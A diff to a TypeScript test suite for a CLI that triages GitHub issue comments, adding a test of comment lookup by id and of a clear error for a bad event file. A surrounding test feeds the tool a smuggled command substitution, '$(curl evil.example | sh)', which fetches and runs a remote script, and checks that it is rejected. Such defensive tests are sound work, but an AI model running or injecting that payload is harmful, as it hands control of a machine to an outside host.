@@ -221,6 +221,25 @@ describe('nightbench triage (the CLI, as the workflow runs it)', () => {
     expect(issue().state).toBe('closed');
   }, 60_000);
 
+  it('by hand: reads a comment by id from GitHub; a bad event file is one clear line and exit 2', async () => {
+    fake.setRole(repository, 'wes', 'write');
+    const written = fake.addComment(repository, 1, 'wes', '/nightbench rerun');
+    const config = path.join(dir, 'nightbench.config.json');
+    writeFileSync(config, JSON.stringify({ github: { repository, apiUrl: fake.baseUrl, waitUnitMs: 1, writeSpacingMs: 0, notifySpacingMs: 0 } }));
+    const db = path.join(dir, 'history.sqlite');
+    const byId = await runCli(['triage', '--config', config, '--db', db, '--issue', '1', '--comment-id', String(written.id)], { cwd: dir, env: { GITHUB_TOKEN: 't0ken', GITHUB_EVENT_PATH: undefined } });
+    expect(byId.code, byId.stderr).toBe(0);
+    expect(byId.stdout).toBe('#1: done (rerun, 2 episodes)\n');
+    expect(fake.dispatches(repository)).toEqual([{ workflow: 'bisect.yml', ref: 'main', inputs: { issue: '1', mode: 'rerun' } }]);
+
+    const event = path.join(dir, 'event.json');
+    writeFileSync(event, JSON.stringify({ action: 'created', issue: { number: 1 }, comment: { id: 5, body: '/nightbench accept' } }));
+    const bad = await runCli(['triage', '--config', config, '--db', db, '--event', event], { cwd: dir, env: { GITHUB_TOKEN: 't0ken' } });
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toBe(`nightbench: issue_comment event ${event}: comment.user: Invalid input: expected object, received undefined (and 2 more)\n`);
+    expect(states()).toEqual(['open', 'open']);
+  }, 60_000);
+
   it('refuses a fixed-by whose commit is a command substitution, saying what a commit looks like', async () => {
     const outcome = await comment('mia', '/nightbench fixed-by $(curl evil.example | sh)', 'maintain');
     expect(outcome.result).toBe('invalid');
